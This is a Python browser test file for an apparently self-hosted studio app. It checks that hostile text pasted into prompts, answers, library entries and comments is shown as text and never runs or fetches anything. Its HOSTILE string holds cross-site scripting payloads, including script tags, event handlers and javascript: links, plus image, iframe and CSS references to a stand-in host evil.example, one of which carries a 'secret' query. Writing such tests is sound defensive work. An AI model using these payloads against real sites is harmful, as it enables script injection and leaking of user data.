"""Hostile text in prompts, answers, titles and comments: shown as text, nothing runs, nothing is fetched."""

from __future__ import annotations

from pathlib import Path

import pytest
from gradio_client import Client
from playwright.sync_api import Page, expect

from tests.browser.conftest import OpenPage
from tests.browser.studio import RunningStudio
from tests.browser.test_library import import_rows

pytestmark = [pytest.mark.browser, pytest.mark.integration]
HOSTILE = """<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>
[a link](javascript:window.hacked=4) ![a picture](http://evil.example/pixel.png?q=secret) <iframe src="http://evil.example/"></iframe>
<style>body { background: url(http://evil.example/style.png) }</style>
[out](http://evil.example/out) <a href="javascript:window.hacked=5">x</a>

![ref][1]

[1]: http://evil.example/ref.png
```html
<script>window.hacked = 6</script>
```
$\\href{javascript:window.hacked=7}{x}$ \u202ereversed\u202c end"""


def assert_inert(page: Page) -> None:
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    dangerous = ("script", "iframe", "img", "style", "a[href^=javascript]", "a[href*='evil.example']")
    places = ("#thread", "#library-preview", "#library-list", "#conversations")
    selector = ", ".join(f"{place} {node}" for place in places for node in dangerous)
    assert page.locator(selector).count() == 0
    assert "evil.example" not in page.evaluate("getComputedStyle(document.body).backgroundImage")


def test_an_answer_from_a_file_is_inert_in_the_library(studio: RunningStudio, open_page: OpenPage, tmp_path: Path) -> None:
    page = open_page(studio.url + "/?tab=library", selector="#library-search input")
    import_rows(page, tmp_path, [{"prompt": HOSTILE, "completion": HOSTILE, "label": True}])
    assert_inert(page)
    page.locator("#library-list article .lib-open").first.click()
    expect(page.locator("#library-preview .pane-answer")).to_contain_text("evil.example")  # the address is shown, as text
    assert_inert(page)


def test_a_prompt_and_an_edited_answer_are_inert_in_the_thread(studio: RunningStudio, open_page: OpenPage) -> None:
    client = Client(studio.url, verbose=False)
    made = client.predict(HOSTILE, {"max_new_tokens": 4}, api_name="/write")
    client.predict(made["creation_ids"][0], HOSTILE, api_name="/edit")
    page = open_page(studio.url)
    page.locator("#prompt textarea").fill(HOSTILE)
    page.locator("#create").click()
    expect(page.locator("#thread .th-prompt-text")).to_contain_text("<script>")
    expect(page.locator("#thread [data-status=queued], #thread [data-status=running]")).to_have_count(0, timeout=120_000)
    page.locator("#thread [data-action=edit]").click()
    page.locator("#thread textarea.th-editor").fill(HOSTILE)
    page.locator("#thread [data-action=save]").click()
    expect(page.locator("#thread .answer")).to_contain_text("evil.example")
    assert_inert(page)
    page.locator("#thread .rate [data-score='1']").click()
    page.locator("#thread .comment").fill(HOSTILE[:900])
    page.reload(wait_until="domcontentloaded")
    expect(page.locator("#thread .answer")).to_contain_text("evil.example")
    assert_inert(page)


def test_other_sites_may_not_frame_or_reach_the_page(studio: RunningStudio, open_page: OpenPage) -> None:
    page = open_page(studio.url)
    headers = page.request.get(studio.url).headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"] and headers["x-content-type-options"] == "nosniff"
    page.evaluate("() => { const i = new Image(); i.src = 'data:,x'; fetch('/nothing'); }")
    assert_inert(page)
